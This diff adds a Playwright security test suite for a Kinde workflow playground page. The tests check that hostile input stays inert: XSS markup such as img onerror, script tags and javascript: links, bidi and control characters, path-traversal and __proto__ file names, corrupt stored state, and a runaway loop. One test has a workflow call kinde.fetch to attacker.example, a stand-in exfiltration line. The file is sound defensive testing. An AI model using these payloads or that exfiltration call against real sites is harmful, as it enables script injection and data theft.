@@ -1,0 +1,151 @@
+/** The page itself with hostile work in it: everything is shown as text, nothing leaves, and no hang keeps it. */
+import { expect, type Page, test } from "@playwright/test";
+import { SETTINGS } from "../../src/hostile/hostile-case.ts";
+
+const MARKUP = "<img src=x onerror=\"globalThis.pwned='img'\"><script>globalThis.pwned='script'</script>";
+const LINK = "[x](javascript:globalThis.pwned='link') javascript:globalThis.pwned=1";
+const BIDI = "\u202eevil\u2066\u200b\u0007";
+
+function projectWith(body: string, files: readonly { name: string; text: string }[] = []) {
+  const text = `${SETTINGS}\nconst set = (name, value) => kinde.accessToken.setCustomClaim(name, value);\nexport default async function Workflow(event) {\n${body}\n}\n`;
+  return {
+    files: [{ name: "Workflow.ts", text }, ...files],
+    tokens: {},
+    events: {},
+    env: [],
+    mocks: [],
+    localization: [],
+  };
+}
+
+/** Opens the page with this work kept from an earlier visit. */
+async function open(page: Page, project: unknown): Promise<{ errors: string[]; foreign: string[] }> {
+  const errors: string[] = [];
+  const foreign: string[] = [];
+  page.on("pageerror", (error) => errors.push(error.message));
+  page.on("dialog", (dialog) => {
+    errors.push(`a dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on("request", (request) => {
+    if (!/^(http:\/\/localhost|blob:|data:)/.test(request.url())) foreign.push(request.url());
+  });
+  await page.addInitScript(
+    (kept) => {
+      if (localStorage.length === 0) localStorage.setItem("kinde-workflow-playground/1", kept);
+    },
+    JSON.stringify({ project, view: {}, example: null }),
+  );
+  await page.goto("./");
+  await page.waitForFunction(() => performance.getEntriesByName("first-result").length > 0);
+  return { errors, foreign };
+}
+
+/** Walks through every tab that there is, so that every view has drawn the result. */
+async function lookEverywhere(page: Page): Promise<string> {
+  await expect(page.getByRole("tab").first()).toBeVisible();
+  let seen = "";
+  const count = await page.getByRole("tab").count();
+  for (let at = 0; at < count; at++) {
+    const tab = page.getByRole("tab").nth(at);
+    if (await tab.isVisible()) await tab.click({ timeout: 3_000 }).catch(() => undefined);
+    await page.waitForTimeout(60);
+    seen += await page.locator("body").innerText();
+  }
+  return seen;
+}
+
+const RENDERED = [
+  ["a claim’s name", `set(${JSON.stringify(MARKUP)}, 1); set(${JSON.stringify(BIDI)}, 1);`],
+  ["a claim’s value", `set("a", ${JSON.stringify([MARKUP, LINK, BIDI])});`],
+  ["a name within a claim", `set("a", { [${JSON.stringify(MARKUP)}]: { [${JSON.stringify(BIDI)}]: 1 } });`],
+  ["a claim that is prohibited", `set("sub", ${JSON.stringify(MARKUP + BIDI)});`],
+  [
+    "a log",
+    `console.log(${JSON.stringify(MARKUP)}, ${JSON.stringify(BIDI)}, "%c", "color:red;background:url(https://attacker.example)");`,
+  ],
+  ["a host call", `try { kinde.fetch("https://attacker.example/" + ${JSON.stringify(MARKUP + BIDI)}); } catch {}`],
+  ["a denial", `kinde.auth.denyAccess(${JSON.stringify(MARKUP + BIDI)});`],
+  ["an error", `const e = new Error(${JSON.stringify(MARKUP + BIDI)}); e.name = ${JSON.stringify(MARKUP)}; throw e;`],
+  [
+    "a function’s name in a stack",
+    `const o = { [${JSON.stringify(MARKUP)}]() { throw new Error("x"); } }; o[${JSON.stringify(MARKUP)}]();`,
+  ],
+] as const;
+
+for (const [what, body] of RENDERED) {
+  test(`markup and invisible characters in ${what} are shown as text`, async ({ page }) => {
+    const { errors, foreign } = await open(page, projectWith(body));
+    const seen = await lookEverywhere(page);
+    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
+    const made = await page
+      .locator("img[onerror], #root script, a[href^='javascript:'], iframe, object, embed")
+      .count();
+    expect(made).toBe(0);
+    // In the editors a person sees the source as it is written; there these characters stand as escapes.
+    expect(seen).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0007]/);
+    expect(await page.title()).not.toMatch(/[<>\u202e\u2066]/);
+    expect({ errors, foreign }).toEqual({ errors: [], foreign: [] });
+  });
+}
+
+test("hostile file names neither break the page nor become paths", async ({ page }) => {
+  const files = [
+    { name: `${MARKUP}.ts`, text: "" },
+    { name: `../../${BIDI}.ts`, text: "" },
+    { name: "__proto__", text: "" },
+    { name: "x".repeat(5_000), text: "" },
+  ];
+  const { errors, foreign } = await open(page, projectWith(`set("ok", 1);`, files));
+  await lookEverywhere(page);
+  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
+  expect(await page.locator("img[onerror]").count()).toBe(0);
+  expect({ errors, foreign }).toEqual({ errors: [], foreign: [] });
+});
+
+test("a very long value is folded, and the page stays quick", async ({ page }) => {
+  const { errors } = await open(
+    page,
+    projectWith(`set("long", "x".repeat(300_000)); for (let at = 0; at < 500; at++) set("c" + at, at);`),
+  );
+  const seen = await lookEverywhere(page);
+  expect(seen).not.toContain("x".repeat(20_000));
+  expect(errors).toEqual([]);
+});
+
+for (const text of [
+  '{"project":{"files":7}}',
+  "{",
+  '{"project":{"files":[null],"tokens":[],"events":{},"env":[],"mocks":[],"localization":[]}}',
+  '{"__proto__":{"polluted":1}}',
+])
+  test(`a storage that holds ${text} leaves a usable page`, async ({ page }) => {
+    await page.addInitScript((kept) => localStorage.setItem("kinde-workflow-playground/1", kept), text);
+    await page.goto("./");
+    await page.waitForFunction(() => performance.getEntriesByName("first-result").length > 0);
+    await expect(page.getByRole("list", { name: "Claims" })).toBeVisible();
+  });
+
+test("an endless loop that is opened leaves the page usable, and says what happened", async ({ page }) => {
+  await open(page, projectWith("new Array(1e9).join();"));
+  await expect(page.getByText(/did not stop|took longer|time limit|execution time exceeded/i).first()).toBeVisible();
+});
+
+test("the built page carries the policy, no service worker and no cookie", async ({ page, baseURL }) => {
+  const response = await page.goto("./");
+  const html = (await response?.text()) ?? "";
+  const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? "";
+  expect(policy).toContain("default-src 'none'");
+  expect(policy).toMatch(/connect-src 'self'(;|$)/);
+  expect(policy).toMatch(/object-src 'none'|default-src 'none'/);
+  expect(policy).not.toMatch(/'unsafe-eval'|script-src[^;]*'unsafe-inline'|https?:|\*/);
+  // Nothing that loads anything stands before the policy.
+  expect(html.slice(0, html.indexOf("Content-Security-Policy"))).not.toMatch(/<(script|link|style|img)/);
+  expect(
+    await page.evaluate(async () => ({
+      cookie: document.cookie,
+      workers: (await navigator.serviceWorker.getRegistrations()).length,
+    })),
+  ).toEqual({ cookie: "", workers: 0 });
+  expect(baseURL).toBeTruthy();
+});
